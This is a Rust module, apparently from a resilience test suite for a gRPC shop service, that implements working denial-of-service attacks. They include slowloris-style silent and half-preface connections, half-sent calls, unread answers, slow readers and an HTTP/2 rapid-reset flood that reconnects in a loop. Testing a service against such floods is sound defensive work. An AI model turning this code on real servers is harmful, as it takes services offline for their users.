//! Connections that are held, or made, to no good end.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::frames::{CANCEL, PREFACE, RST_STREAM, call, frame, half_call, hello};

/// Public, and with an answer of some size.
pub(super) const LIST_PRODUCTS: &str = "/souk.product.v1.ProductService/ListProducts";
/// Calls on each connection of those that make some.
const CALLS: u32 = 100;
/// Calls that are begun and taken back between two pauses for breath.
const RESETS: u32 = 200;

/// What is done to a port.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Connections that never say a byte.
    Silent,
    /// Connections that say half of the HTTP/2 preface.
    HalfPreface,
    /// A hundred calls on each connection, of which the second half never comes.
    HalfCalls,
    /// A hundred answers on each connection, of which one byte fits into the window.
    UnreadAnswers,
    /// Answers over HTTP/1.1 that are read a byte a second. A service port hangs up on them.
    SlowReaders,
    /// Calls that are taken back as soon as they are made, as fast as can be.
    RapidReset,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 6] = [
        Self::Silent,
        Self::HalfPreface,
        Self::HalfCalls,
        Self::UnreadAnswers,
        Self::SlowReaders,
        Self::RapidReset,
    ];

    /// Begins, over so many connections, and goes on until the set is dropped. A connection that the shop closes is
    /// opened again.
    pub(super) fn begin(self, address: SocketAddr, connections: usize) -> JoinSet<()> {
        let mut attackers = JoinSet::new();
        for _ in 0..connections {
            attackers.spawn(async move {
                loop {
                    // Refused, reset, closed: all of it is an answer.
                    let _ = self.connection(address).await;
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            });
        }
        attackers
    }

    /// One connection, to its end.
    async fn connection(self, address: SocketAddr) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(address).await?;
        match self {
            Self::Silent => {}
            Self::HalfPreface => stream.write_all(&PREFACE[..12]).await?,
            Self::HalfCalls => {
                stream.write_all(&hello(None)).await?;
                for number in 0..CALLS {
                    let call = half_call(2 * number + 1, LIST_PRODUCTS);
                    stream.write_all(&call).await?;
                }
            }
            Self::UnreadAnswers => {
                stream.write_all(&hello(Some(1))).await?;
                for number in 0..CALLS {
                    stream
                        .write_all(&call(2 * number + 1, LIST_PRODUCTS))
                        .await?;
                }
            }
            Self::SlowReaders => {
                stream.write_all(&web_call()).await?;
                while stream.read_u8().await.is_ok() {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
                return Ok(());
            }
            Self::RapidReset => return rapid_reset(stream).await,
        }
        read_to_end(&mut stream).await
    }
}

async fn rapid_reset(stream: TcpStream) -> std::io::Result<()> {
    let (mut read, mut write) = stream.into_split();
    let listening = async move {
        let mut ignored = [0; 4096];
        while read.read(&mut ignored).await? > 0 {}
        Ok(())
    };
    let resetting = async move {
        write.write_all(&hello(None)).await?;
        let mut id = 1;
        loop {
            let mut calls = bytes::BytesMut::new();
            for _ in 0..RESETS {
                calls.extend_from_slice(&call(id, LIST_PRODUCTS));
                calls.extend_from_slice(&frame(RST_STREAM, 0, id, CANCEL));
                id += 2;
            }
            write.write_all(&calls).await?;
            tokio::task::yield_now().await;
        }
    };
    tokio::select! {
        ended = listening => ended,
        ended = resetting => ended,
    }
}

/// Until the other side hangs up.
async fn read_to_end(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut ignored = [0; 4096];
    while stream.read(&mut ignored).await? > 0 {}
    Ok(())
}

/// A call as a browser makes it.
fn web_call() -> Vec<u8> {
    let head = format!(
        "POST {LIST_PRODUCTS} HTTP/1.1\r\nhost: souk\r\ncontent-type: application/grpc-web+proto\r\n\
         content-length: 5\r\n\r\n"
    );
    [head.as_bytes(), &[0; 5]].concat()
}
